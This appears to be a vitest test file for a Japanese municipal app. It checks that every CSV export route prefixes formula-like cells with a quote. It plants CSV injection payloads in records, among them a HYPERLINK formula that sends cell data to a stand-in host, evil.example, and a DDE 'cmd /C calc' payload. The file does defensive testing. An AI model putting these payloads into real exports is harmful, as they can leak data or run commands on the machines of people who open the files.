import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ledgerMove } from '../../src/server/modules/payments/payments.ledger.ts';
import { routeTable } from '../../src/server/platform/access/guard.ts';
import { asSystem, inTransaction } from '../../src/server/platform/db/tenant.ts';
import { registerPayableSource } from '../../src/server/platform/modules/payable-sources.ts';
import { parseCsv } from '../../src/server/platform/text/csv.ts';
import type { Role } from '../../src/shared/roles.ts';
import { loginAs } from '../factories/accounts.ts';
import { createPublishedCase } from '../factories/cases.ts';
import { createEvent, createOrganiser } from '../factories/events.ts';
import { createPublishedPlace } from '../factories/places.ts';
import { createTenant } from '../factories/tenants.ts';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import type { LoggedIn } from '../helpers/auth.ts';

/**
 * CSV formula injection (issue 19): every route that answers a CSV file is found in the app's own
 * route table (a GET whose path names a `.csv` file, or an open-data `:file` route), and each one is called with
 * hostile text planted where a member of the public or a staff member can type it. A cell that begins
 * with `=`, `+`, `-`, `@`, a tab or a CR must come out with a leading single quote. A new CSV route
 * fails the first test until a hostile case is written for it here.
 */
const KOFU = '192015';
const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"詳しくはこちら")';
const HOSTILE_CELLS = [HOSTILE, '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

let t: TestApp;
let finance: LoggedIn;
let admin: LoggedIn;
let consultation: LoggedIn;
let batchId = '';

registerPayableSource({
  kind: 'csv_test_claim',
  label: { ja: 'CSV テスト', en: 'CSV test' },
  listPayable: async (_tx, tenant) =>
    tenant === KOFU
      ? [
          {
            sourceId: 'csv-hostile-1',
            programmeKey: HOSTILE_CELLS[3]!,
            fiscalYear: 2026,
            amount: 1200,
            description: HOSTILE,
            payeeName: HOSTILE,
            bank: {
              bankCode: '0001',
              branchCode: '001',
              accountType: '1',
              accountNumber: '1234567',
              holderName: 'ﾃｽﾄ ﾀﾛｳ',
            },
          },
        ]
      : [],
  programmeNames: async () => new Map([[HOSTILE_CELLS[3]!, HOSTILE]]),
});

/** How to reach each CSV route, with hostile text planted in what it exports. */
const CASES: Record<string, { url: () => string; who: () => LoggedIn | null; planted: string[] }> = {
  'GET /api/public/open-data/:file': {
    url: () => `/api/public/open-data/${KOFU}_public_facility.csv`,
    who: () => null,
    planted: [HOSTILE, HOSTILE_CELLS[1]!],
  },
  'GET /api/public/open-data/events/:file': {
    url: () => `/api/public/open-data/events/${KOFU}_event.csv`,
    who: () => null,
    planted: [HOSTILE, HOSTILE_CELLS[2]!],
  },
  'GET /api/payments/batches/:id/accounting.csv': {
    url: () => `/api/payments/batches/${batchId}/accounting.csv`,
    who: () => finance,
    planted: [HOSTILE, HOSTILE_CELLS[3]!],
  },
  'GET /api/payments/ledger.csv': {
    url: () => '/api/payments/ledger.csv?fiscalYear=2026',
    who: () => finance,
    planted: [HOSTILE_CELLS[3]!],
  },
  'GET /api/public/cases/open-data.csv': {
    url: () => '/api/public/cases/open-data.csv',
    who: () => null,
    planted: [HOSTILE, HOSTILE_CELLS[4]!],
  },
  // Statistics and indicators carry no free text (municipality and prefecture names from the reference
  // list, fixed category labels, counts): checked for unneutralised cells only.
  'GET /api/public/indicators.csv': {
    url: () => '/api/public/indicators.csv?indicator=window&fiscalYear=2026&prefecture=19',
    who: () => null,
    planted: [],
  },
  'GET /api/admin/audit.csv': {
    url: () => '/api/admin/audit.csv?action=audit.log.*',
    who: () => admin,
    planted: [],
  },
  'GET /api/support/persons.csv': {
    url: () => '/api/support/persons.csv?scope=all',
    who: () => consultation,
    planted: ['@SUM(A1:A9)さん'],
  },
  'GET /api/reports/statistics.csv': {
    url: () => '/api/reports/statistics.csv',
    who: () => admin,
    planted: [],
  },
};

function csvRoutes(): string[] {
  return routeTable(t.app)
    .filter((r) => r.method === 'GET' && (/\.csv$/.test(r.url) || /\/open-data\/(.+\/)?:file$/.test(r.url)))
    .map((r) => `${r.method} ${r.url}`)
    .sort();
}

beforeAll(async () => {
  // No demo: the town, its staff and every record this file plants its formulas in are made here.
  t = await createTestApp();
  await createTenant(t, KOFU);
  const as = (role: Role, tenantCode: string | null = KOFU) => loginAs(t, { tenantCode, roles: [role] });
  [finance, admin, consultation] = [
    await as('finance'),
    await as('municipal_admin'),
    await as('consultation'),
  ];
  const place = await createPublishedPlace(t, await as('labour'), admin, { name: '（テスト）CSV の居場所' });
  const modelCase = await createPublishedCase(
    t,
    { author: admin, reviewer: await as('prefecture', '190004'), publisher: await as('national', null) },
    { title: '（テスト）CSV の事例' },
  );
  const organiser = await createOrganiser(t, admin, { name: '（テスト）CSV の家族会' });
  const event = await createEvent(t, admin, { organiserId: organiser, title: '（テスト）CSV の学習会' });
  // A support record whose nickname a worker typed as a formula.
  const person = await t.request({
    method: 'POST',
    url: '/api/support/persons',
    headers: consultation.headers(),
    payload: {
      person: { nickname: '@SUM(A1:A9)さん' },
      consents: [
        {
          purpose: 'record_keeping',
          recipient: 'municipality',
          status: 'given',
          decidedOn: '2026-11-26',
          method: 'verbal_in_person',
        },
      ],
    },
  });
  expect(person.statusCode, person.body).toBe(201);

  await asSystem(t.db, async (tx) => {
    // A published place and event whose texts hold formulas (as a hostile registrant could type them).
    await tx.execute(
      sql`update place_listings set name = ${HOSTILE},
            content = jsonb_set(jsonb_set(content, '{name}', to_jsonb(${HOSTILE}::text)), '{description}', to_jsonb(${HOSTILE_CELLS[1]!}::text))
          where id = ${place.id}`,
    );
    // A published model case whose title and first steps hold formulas (as an author could type them).
    await tx.execute(
      sql`update cases set content = jsonb_set(jsonb_set(content, '{title}', to_jsonb(${HOSTILE}::text)), '{firstSteps}', to_jsonb(${HOSTILE_CELLS[4]!}::text))
          where id = ${modelCase}`,
    );
    await tx.execute(
      sql`update events set title = ${HOSTILE}, description = ${HOSTILE_CELLS[2]!} where id = ${event.id}`,
    );
  });
  // A confirmed claim with a hostile programme and description, in a payment batch.
  await inTransaction(t.db, { tenant: KOFU }, (tx) =>
    ledgerMove(
      tx,
      KOFU,
      {
        sourceKind: 'csv_test_claim',
        sourceId: 'csv-hostile-1',
        programmeKey: HOSTILE_CELLS[3]!,
        fiscalYear: 2026,
      },
      null,
      'confirmed',
      1200,
      'claim.confirmed',
      { at: t.clock.now(), actorAccountId: null },
    ),
  );
  const batch = await t.request({
    method: 'POST',
    url: '/api/payments/batches',
    headers: finance.headers(),
    payload: {
      transferDate: '2026-12-10',
      items: [{ sourceKind: 'csv_test_claim', sourceId: 'csv-hostile-1' }],
    },
  });
  expect(batch.statusCode, batch.body).toBe(201);
  batchId = batch.json().id;
}, 120_000);

afterAll(async () => {
  await t?.close();
});

describe('every CSV export neutralises formulas (issue 19)', () => {
  it('has a hostile case for every CSV route in the app', () => {
    expect(csvRoutes()).toEqual(Object.keys(CASES).sort());
  });

  for (const [route, c] of Object.entries(CASES)) {
    it(`${route}: hostile cells come out quote-prefixed, no cell can start a formula`, async () => {
      const who = c.who();
      const res = await t.request({ method: 'GET', url: c.url(), headers: who?.headers() ?? {} });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toContain('text/csv');
      const parsed = parseCsv(res.body.replace(/^\ufeff/, ''));
      expect(parsed.error).toBeNull();
      const cells = parsed.rows.flat();
      for (const planted of c.planted) {
        expect(cells, `${planted} written as it is`).not.toContain(planted);
        expect(cells.some((cell) => cell.includes(`'${planted}`))).toBe(true);
      }
      for (const cell of cells) {
        // A number typed as a number (e.g. a negative balance) is not a formula.
        if (/^-\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, 'cell could start a formula').not.toMatch(/^[=+\-@\t\r]/);
      }
    });
  }
});
